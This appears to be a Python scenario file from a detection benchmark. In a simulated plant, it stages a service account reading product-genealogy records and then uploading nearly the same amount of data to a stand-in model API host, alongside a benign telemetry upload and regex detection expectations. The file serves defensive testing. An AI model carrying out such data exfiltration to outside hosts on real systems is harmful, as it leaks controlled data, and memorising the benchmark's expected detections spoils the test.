"""S4, controlled content to a model API: what was read with every right goes on to where it may never go."""

from benchmarks.detection.scenarios.play import Expected, Scenario
from benchmarks.detection.scenarios.stage import GENEALOGY, MODEL_API, Stage, Take, Tape, plant_time
from examples.plant import clients
from examples.plant.day import NAMES
from examples.plant.ledger import Entry
from examples.plant.story import TELEMETRY

QUERY = "select id, parent, component, serial, station, torque from mes.genealogy where id <= {rows}"


def attack(stage: Stage) -> Tape:
    """The MES reads genealogy as it may; minutes later as much goes from its host to a model API."""
    login, query = stage.login("svc_mes", application="mes-app/7.2"), QUERY.format(rows=stage.chance.randint(GENEALOGY - 500, GENEALOGY))
    with stage.take() as read:
        entry = stage.host("mes-app").call(lambda: clients.select(login, stage.plant.ledger, query))
    with stage.take() as sent:
        stage.upload("mes-app", MODEL_API, about(stage, entry), to="model", account="unread")
    return Tape().add(read, plant_time("2026-04-07 10:00"), story=False).add(sent, plant_time("2026-04-07 10:04"))


def twin(stage: Stage) -> Tape:
    """The historian collects telemetry and uploads as much on its own hop."""
    read = telemetry(stage)
    with stage.take() as sent:
        stage.upload("historian", NAMES["lake"], about(stage, read.entries[0]), to="lake", account="svc_trend")
    return Tape().add(read, plant_time("2026-04-07 10:00"), story=False).add(sent, plant_time("2026-04-07 10:04"))


def telemetry(stage: Stage) -> Take:
    """Some hundred kilobytes of line telemetry."""
    login, host = stage.login("svc_hist", "opc-l1", "historian"), stage.host("historian")
    with stage.take() as take:
        host.call(lambda: clients.opcua_read(login, stage.plant.ledger, host.local_address(), TELEMETRY * 100, times=20))
    return take


def about(stage: Stage, entry: Entry) -> int:
    """Nearly as much as was read."""
    return int(entry.received * stage.chance.uniform(0.9, 1.05))


SCENARIO = Scenario(
    "S4", "controlled content to a model API", attack, twin,
    (
        Expected("undeclared-destination", "where", r"api\.model\.example|192\.0\.2\.80", immediate=True),
        Expected("lineage", "where", r"process_ip from mes-db.*mes-db -> mes-app -> .*(api\.model\.example|192\.0\.2\.80)"),
    ),
    attacked="genealogy read, then TLS upload of nearly the same size to api.model.example",
    benign="telemetry upload on its hop, same size as what was collected",
)  # fmt: skip
